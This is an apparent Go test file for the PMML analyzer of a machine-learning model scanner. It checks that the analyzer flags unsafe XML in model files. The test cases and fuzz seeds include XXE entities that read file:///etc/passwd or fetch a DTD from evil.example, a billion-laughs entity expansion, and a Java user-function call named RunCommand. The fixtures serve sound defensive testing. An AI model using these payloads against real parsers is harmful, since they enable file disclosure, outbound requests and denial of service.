package pmml

import (
	"bytes"
	"strings"
	"testing"

	"github.com/modelvet/modelvet/formats"
	"github.com/modelvet/modelvet/formats/formatstest"
)

// realPMML is the shape sklearn2pmml writes for a small decision tree.
const realPMML = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<PMML xmlns="http://www.dmg.org/PMML-4_4" xmlns:data="http://jpmml.org/jpmml-model/InlineTable" version="4.4">
	<Header>
		<Application name="SkLearn2PMML package" version="0.91.1"/>
		<Timestamp>2023-04-01T10:00:00Z</Timestamp>
	</Header>
	<DataDictionary>
		<DataField name="y" optype="categorical" dataType="integer"><Value value="0"/><Value value="1"/></DataField>
		<DataField name="x1" optype="continuous" dataType="float"/>
	</DataDictionary>
	<TreeModel functionName="classification" algorithmName="sklearn.tree._classes.DecisionTreeClassifier" missingValueStrategy="nullPrediction">
		<MiningSchema><MiningField name="y" usageType="target"/><MiningField name="x1"/></MiningSchema>
		<Node><True/><Node score="1" recordCount="3.0"><SimplePredicate field="x1" operator="greaterThan" value="0.5"/></Node></Node>
	</TreeModel>
</PMML>
`

func TestPMML(t *testing.T) {
	cases := []struct {
		name string
		doc  string
		rule string // "" = nothing at medium or above
		sev  formats.Severity
	}{
		{"sklearn2pmml decision tree", realPMML, "", 0},
		{"XXE reading a local file", strings.Replace(realPMML, "<PMML ", `<!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]><PMML `, 1), "pmml/xml-entity", formats.High},
		{"XXE fetching a URL through a parameter entity", strings.Replace(realPMML, "<PMML ", `<!DOCTYPE PMML [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><PMML `, 1), "pmml/xml-entity", formats.High},
		{"billion laughs", strings.Replace(realPMML, "<PMML ", `<!DOCTYPE PMML [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]><PMML `, 1), "pmml/xml-entity", formats.High},
		{"DOCTYPE without entities", strings.Replace(realPMML, "<PMML ", `<!DOCTYPE PMML><PMML `, 1), "pmml/xml-entity", formats.Medium},
		{"Java user function loaded from the classpath", strings.Replace(realPMML, "<MiningSchema>", `<LocalTransformations><DerivedField name="d" optype="continuous" dataType="double"><Apply function="com.example.RunCommand"><FieldRef field="x1"/></Apply></DerivedField></LocalTransformations><MiningSchema>`, 1), "pmml/java-function", formats.Medium},
		{"JPMML-Evaluator's own function (its documented MeanFunction)", strings.Replace(realPMML, "<MiningSchema>", `<LocalTransformations><DerivedField name="d" optype="continuous" dataType="double"><Apply function="org.jpmml.evaluator.functions.MeanFunction"><FieldRef field="x1"/></Apply></DerivedField></LocalTransformations><MiningSchema>`, 1), "", 0},
		{"built-in and x- extension functions", strings.Replace(realPMML, "<MiningSchema>", `<LocalTransformations><DerivedField name="d" optype="continuous" dataType="double"><Apply function="x-atan2"><Apply function="ln"><FieldRef field="x1"/></Apply><Constant>1.5</Constant></Apply></DerivedField></LocalTransformations><MiningSchema>`, 1), "", 0},
		{"truncated document", realPMML[:len(realPMML)/2], "pmml/malformed", formats.High},
		{"another root element", `<?xml version="1.0"?><net/>`, "pmml/malformed", formats.Medium},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			res := formatstest.ScanBytes(t, "model.pmml", []byte(c.doc), nil)
			if res.Format != "pmml" {
				t.Fatalf("format %q", res.Format)
			}
			formatstest.AtLeast(t, res, c.rule, c.sev)
		})
	}
}

func FuzzPMML(f *testing.F) {
	f.Add([]byte(realPMML))
	f.Add([]byte(`<PMML><Apply function="com.example.Evil"><Apply function="a..b"/></Apply></PMML>`))
	f.Add([]byte(`<!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]><PMML>&x;</PMML>`))
	o := formats.DefaultOptions()
	f.Fuzz(func(t *testing.T, data []byte) {
		res := &formats.FileResult{}
		analyze(formats.NewScope("m.pmml", &o, res), bytes.NewReader(data), int64(len(data)))
		for _, x := range res.Findings {
			if x.Rule == "formats/analyzer-failure" {
				t.Fatal(x.Message)
			}
		}
	})
}

func BenchmarkPMML(b *testing.B) {
	// A large tree ensemble: many nodes, like a random forest export.
	var sb strings.Builder
	sb.WriteString(`<?xml version="1.0"?><PMML version="4.4"><MiningModel>`)
	for sb.Len() < 8<<20 {
		sb.WriteString(`<Node score="1" recordCount="3.0"><SimplePredicate field="x1" operator="greaterThan" value="0.5"/></Node>`)
	}
	sb.WriteString(`</MiningModel></PMML>`)
	data := []byte(sb.String())
	o := formats.DefaultOptions()
	b.SetBytes(int64(len(data)))
	for b.Loop() {
		res := &formats.FileResult{}
		analyze(formats.NewScope("m.pmml", &o, res), bytes.NewReader(data), int64(len(data)))
	}
}
